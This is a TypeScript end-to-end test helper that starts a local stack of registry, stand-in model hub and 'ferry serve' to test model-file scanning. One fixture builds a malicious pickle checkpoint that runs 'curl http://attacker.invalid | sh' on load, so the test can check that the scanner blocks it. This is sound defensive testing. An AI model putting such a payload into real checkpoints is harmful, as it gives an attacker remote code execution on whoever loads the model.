import { spawn, type ChildProcess } from 'node:child_process';
import { join, resolve } from 'node:path';
import { createInterface } from 'node:readline';
import { osSystemPickle } from '../fixtures/scan/pickle-builder';
import { torchZip } from '../fixtures/scan/zip-builder';
import { ferry } from './ferry-cli';
import { startHubServer, type HubFileSpec } from './hub-server';
import { startRegistry } from './registry';
import { tempDir } from './temp';
import { buildTestImages, pushTestImages } from './test-images';

export interface DemoStack {
  url: string;
  workDir: string;
  dataDir: string;
  images: { ref: string; digest: string }[];
  hubUrl: string;
  model: string;
  stop(): Promise<void>;
}

/** A safetensors header for one U8 tensor filling a file of `size` bytes, so generated data after it is a valid model. */
export function safetensorsPrefix(size: number): Buffer {
  let len = 0;
  for (;;) {
    const json = JSON.stringify({ __metadata__: { format: 'pt' }, 'model.embed.weight': { dtype: 'U8', shape: [size - 8 - len], data_offsets: [0, size - 8 - len] } });
    const padded = json.padEnd(Math.ceil(json.length / 8) * 8, ' ');
    if (padded.length === len) {
      const head = Buffer.alloc(8);
      head.writeBigUInt64LE(BigInt(len));
      return Buffer.concat([head, Buffer.from(padded)]);
    }
    len = padded.length;
  }
}

/** Starts `ferry serve` as its own process and resolves with the URL it prints. */
export async function startServe(dataDir: string, env: NodeJS.ProcessEnv = {}): Promise<{ url: string; child: ChildProcess }> {
  const bin = resolve(__dirname, '..', '..', 'bin', 'ferry.js');
  const child = spawn(process.execPath, [bin, 'serve', '--json', '--data-dir', dataDir], { stdio: ['ignore', 'pipe', 'inherit'], env: { ...process.env, ...env } });
  const lines = createInterface({ input: child.stdout! });
  const url = await new Promise<string>((res, rej) => {
    child.once('exit', (code) => rej(new Error(`ferry serve exited with ${code}`)));
    lines.once('line', (l) => res((JSON.parse(l) as { url: string }).url));
  });
  return { url, child };
}

/** A real stack on loopback: a source registry with test images, a hub stand-in with one model, `ferry serve`. */
export async function startDemoStack(opts: { modelBytes?: number; files?: Record<string, HubFileSpec> } = {}): Promise<DemoStack> {
  const tmp = tempDir('ferry-demo-');
  const modelBytes = opts.modelBytes ?? 8 * 1024 * 1024;
  const registry = await startRegistry();
  const hub = await startHubServer({
    repos: {
      'acme/tiny-llm': {
        files: {
          'README.md': Buffer.from('---\nlicense: apache-2.0\n---\n# tiny-llm\n'),
          'config.json': Buffer.from('{"model_type":"mistral"}'),
          'model.safetensors': { size: modelBytes, seed: 3, prefix: safetensorsPrefix(modelBytes) },
          ...opts.files,
        },
      },
      // A checkpoint whose pickle runs a shell command when loaded: scanning must block it.
      'acme/evil-llm': { files: { 'config.json': Buffer.from('{}'), 'pytorch_model.bin': torchZip(osSystemPickle('curl http://attacker.invalid | sh')) } },
    },
  });
  const built = await buildTestImages(join(tmp.path, 'layout'));
  const images = await pushTestImages(built.layoutDir, registry.host, 'e2e');
  const dataDir = join(tmp.path, 'data');
  // Test machines have ClamAV without a signature database, so every scan's antivirus result is
  // 'error': this station approves without a clean antivirus result (e2e/overrides.spec.ts turns
  // the default policy back on to see it refuse).
  const policy = await ferry(['trust', 'policy', '--require-clean-antivirus', 'off', '--data-dir', dataDir, '--json']);
  if (policy.code !== 0) throw new Error(`demo stack: ferry trust policy failed: ${policy.stderr}`);
  // Folder browsing (fs:browse) is confined to the stack's own work folder.
  const serve = await startServe(dataDir, { FERRY_STATION: 'transfer-station-1', FERRY_ACTOR: 'operator.jane', FERRY_BROWSE_ROOTS: tmp.path });
  return {
    url: serve.url,
    workDir: tmp.path,
    dataDir,
    images,
    hubUrl: hub.url,
    model: 'acme/tiny-llm',
    stop: async () => {
      serve.child.kill('SIGTERM');
      await Promise.allSettled([registry.stop(), hub.stop()]);
      tmp.cleanup();
    },
  };
}
